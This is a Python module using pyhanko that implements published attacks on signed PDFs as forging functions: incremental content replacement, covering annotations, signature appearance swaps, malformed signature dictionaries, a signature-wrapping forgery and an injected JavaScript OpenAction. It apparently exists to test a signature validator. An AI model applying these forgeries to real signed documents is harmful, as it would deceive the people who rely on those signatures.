"""Known attacks on signed PDFs, each a function from a signed file to a forged one.

Names of families: ISA incremental saving, SWA signature wrapping, USF universal forgery (Mladenov et al., 2019);
shadow (Mainka et al., 2021); EAA evil annotation, SSA sneaky signature (Rohlmann et al., 2021).
"""

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

Writer = IncrementalPdfFileWriter
Dict = generic.DictionaryObject


def _append(change: Callable[[Writer], None]) -> Callable[[bytes], bytes]:
    def attack(pdf: bytes) -> bytes:
        writer = IncrementalPdfFileWriter(BytesIO(pdf))
        change(writer)
        out = BytesIO()
        writer.write(out)
        forged = out.getvalue()
        assert forged.startswith(pdf)
        assert len(forged) > len(pdf)
        return forged

    return attack


def _page(writer: Writer) -> Dict:
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    writer.update_container(page)
    return page


def _stream(writer: Writer, data: bytes, entries: dict | None = None) -> generic.IndirectObject:
    return writer.add_object(generic.StreamObject(entries or {}, stream_data=data))


def _replace_content(writer: Writer) -> None:
    page = _page(writer)
    page["/Contents"] = _stream(writer, b"BT /F1 12 Tf 80 700 Td (Prix 1 euro) Tj ET")


def _overwrite_stream(writer: Writer) -> None:
    reference = writer.root["/Pages"]["/Kids"][0].raw_get("/Contents").reference
    writer.objects[(reference.generation, reference.idnum)] = generic.StreamObject(
        stream_data=b"0 0 9 9 re f"
    )


def _rotate(writer: Writer) -> None:
    _page(writer)["/Rotate"] = generic.NumberObject(180)


def _crop(writer: Writer) -> None:
    box = [generic.NumberObject(value) for value in (0, 600, 595, 842)]
    _page(writer)["/CropBox"] = generic.ArrayObject(box)


def _add_page(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    page = Dict({pdf_name("/Type"): pdf_name("/Page"), pdf_name("/Parent"): writer.root.raw_get("/Pages")})
    page["/MediaBox"] = generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)])
    pages["/Kids"].append(writer.add_object(page))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)


def _script(writer: Writer) -> None:
    action = Dict(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert(1)")}
    )
    writer.root["/OpenAction"] = action
    writer.update_root()


def _outline(writer: Writer) -> None:
    item = Dict({pdf_name("/Title"): generic.pdf_string("Prix : 1 euro")})
    outline = Dict({pdf_name("/First"): writer.add_object(item), pdf_name("/Count"): generic.NumberObject(1)})
    writer.root["/Outlines"] = writer.add_object(outline)
    writer.update_root()


def _layer(writer: Writer) -> None:
    group = writer.add_object(
        Dict({pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): generic.pdf_string("x")})
    )
    off = Dict({pdf_name("/OFF"): generic.ArrayObject([group])})
    groups = generic.ArrayObject([group])
    writer.root["/OCProperties"] = Dict({pdf_name("/OCGs"): groups, pdf_name("/D"): off})
    writer.update_root()


def _attachment(writer: Writer) -> None:
    file = Dict({pdf_name("/Type"): pdf_name("/Filespec"), pdf_name("/F"): generic.pdf_string("prix.txt")})
    file["/EF"] = Dict({pdf_name("/F"): _stream(writer, b"1 euro")})
    names = writer.root["/Names"]
    entries = generic.ArrayObject([generic.pdf_string("prix.txt"), writer.add_object(file)])
    names["/EmbeddedFiles"] = Dict({pdf_name("/Names"): entries})
    writer.update_container(names)


def _annotation(writer: Writer) -> None:
    """EAA: a free text that covers the price."""
    note = Dict({pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText")})
    note["/Rect"] = generic.ArrayObject([generic.NumberObject(v) for v in (50, 600, 300, 700)])
    note["/Contents"] = generic.pdf_string("Prix : 1 euro")
    page = _page(writer)
    page["/Annots"].append(writer.add_object(note))
    writer.update_container(page["/Annots"])


def _appearance(writer: Writer) -> None:
    """The drawing of the mayor's signature shows another name."""
    for field in writer.root["/AcroForm"]["/Fields"]:
        widget = field.get_object()
        if widget["/T"] in ("maire", "Signature1"):
            box = generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 200, 58)])
            form = {pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): box}
            widget["/AP"] = Dict({pdf_name("/N"): _stream(writer, b"0 0 200 58 re f", form)})
            writer.update_container(widget)


def _signed_field(writer: Writer) -> Dict:
    """The mayor's, or the only one."""
    fields = writer.root["/AcroForm"]["/Fields"]
    return fields[min(1, len(fields) - 1)].get_object()


def _no_fields(writer: Writer) -> None:
    writer.root["/AcroForm"]["/Fields"] = generic.ArrayObject([])
    writer.update_container(writer.root["/AcroForm"])


def _no_form(writer: Writer) -> None:
    del writer.root["/AcroForm"]
    writer.update_root()


def _no_perms(writer: Writer) -> None:
    del writer.root["/Perms"]
    writer.update_root()


def _no_value(writer: Writer) -> None:
    widget = _signed_field(writer)
    del widget["/V"]
    writer.update_container(widget)


def _info_title(writer: Writer) -> None:
    writer.set_info(Dict({pdf_name("/Title"): generic.pdf_string("Vente à 1 euro")}))


def _xmp_title(writer: Writer) -> None:
    packet = writer.root["/Metadata"].data.replace(b"2026-014", b"2026-999")
    entries = {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")}
    writer.root["/Metadata"] = _stream(writer, packet, entries)
    writer.update_root()


def _more_evidence(writer: Writer) -> None:
    store = writer.root["/DSS"]
    store["/Certs"].append(_stream(writer, b"0"))
    writer.update_container(store)


more_evidence = _append(_more_evidence)
"""Not forged: validation data added after the last time stamp, as other software does."""


def _usf(change: Callable[[Dict], None]) -> Callable[[bytes], bytes]:
    def forge(writer: Writer) -> None:
        signature = _signed_field(writer)["/V"]
        change(signature)
        writer.update_container(signature)

    return _append(forge)


def _set(key: str, value: generic.PdfObject) -> Callable[[Dict], None]:
    def change(signature: Dict) -> None:
        signature[key] = value

    return change


def _drop(key: str) -> Callable[[Dict], None]:
    def change(signature: Dict) -> None:
        del signature[pdf_name(key)]

    return change


def _numbers(*values: int) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(value) for value in values])


def wrap(pdf: bytes) -> bytes:
    """SWA: the signed end of the file moves down; the room left holds a forged table, exactly where the signed
    startxref points, that replaces the page and the byte range. The signed bytes themselves are all there."""
    _start, size, after, length = (
        int(v) for v in re.findall(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)", pdf)[-1]
    )
    table = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    reader = PdfFileReader(BytesIO(pdf))
    signature = reader.embedded_signatures[-1].sig_object
    kind, filter_name = signature["/Type"].encode(), signature["/SubFilter"].encode()
    numbers = [
        reader.root["/Pages"]["/Kids"][0].raw_get("/Contents").idnum,
        signature.container_ref.idnum,
    ]
    moved = table + 16384  # where the signed end goes
    bodies = [
        b"<< /Length 36 >>\nstream\n0.9 0.1 0.1 rg 80 500 400 200 re f  \nendstream",
        b"<< /Type %s /Filter /Adobe.PPKLite /SubFilter %s /ByteRange [0 %d %d %d] /Contents %s >>"
        % (kind, filter_name, size, moved, length, pdf[size:after]),
    ]
    sections, forged, offset = b"", b"", table + 512
    for number, body in zip(numbers, bodies, strict=True):
        sections += b"%d 1\n%010d 00000 n \n" % (number, offset + len(forged))
        forged += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    root = b"%d %d R" % (reader.root_ref.idnum, reader.root_ref.generation)
    previous = moved + table - after  # the true table of the last revision, which moved with the signed end
    trailer = b"trailer\n<< /Size 9999 /Root %s /Prev %d >>\n" % (root, previous)
    head = pdf[:after].ljust(table) + b"xref\n" + sections + trailer
    return (head.ljust(table + 512) + forged).ljust(moved) + pdf[after:]


INCREMENTAL = {
    "replace content": _append(_replace_content),
    "overwrite a content stream": _append(_overwrite_stream),
    "rotate a page": _append(_rotate),
    "crop a page": _append(_crop),
    "add a page": _append(_add_page),
    "add a script": _append(_script),
    "replace the bookmarks": _append(_outline),
    "add a hidden layer": _append(_layer),
    "attach a file": _append(_attachment),
    "cover with an annotation": _append(_annotation),
    "swap the look of a signature": _append(_appearance),
    "empty the list of fields": _append(_no_fields),
    "remove the form": _append(_no_form),
    "remove the certification": _append(_no_perms),
    "remove one signature value": _append(_no_value),
    "change the title in Info": _append(_info_title),
    "change the title in XMP": _append(_xmp_title),
}
UNIVERSAL = {
    "no Contents": _usf(_drop("/Contents")),
    "empty Contents": _usf(_set("/Contents", generic.ByteStringObject(b""))),
    "zero Contents": _usf(_set("/Contents", generic.ByteStringObject(b"\0"))),
    "null Contents": _usf(_set("/Contents", generic.NullObject())),
    "no ByteRange": _usf(_drop("/ByteRange")),
    "null ByteRange": _usf(_set("/ByteRange", generic.NullObject())),
    "empty ByteRange": _usf(_set("/ByteRange", generic.ArrayObject([]))),
    "negative ByteRange": _usf(_set("/ByteRange", _numbers(0, -1, -1, 0))),
    "huge ByteRange": _usf(_set("/ByteRange", _numbers(0, 10**12, 10**12, 10**12))),
    "word ByteRange": _usf(_set("/ByteRange", pdf_name("/None"))),
    "no SubFilter": _usf(_drop("/SubFilter")),
    "unknown SubFilter": _usf(_set("/SubFilter", pdf_name("/none.at.all"))),
}
TRAILING = {
    "one byte": lambda pdf: pdf + b"\n",
    "junk": lambda pdf: pdf + b"junk after the end",
    "a zip file": lambda pdf: pdf + b"PK\x03\x04" + bytes(40) + b"PK\x05\x06" + bytes(18),
    "an object without table": lambda pdf: pdf + b"999 0 obj\n<< /Price 1 >>\nendobj\n%%EOF\n",
}
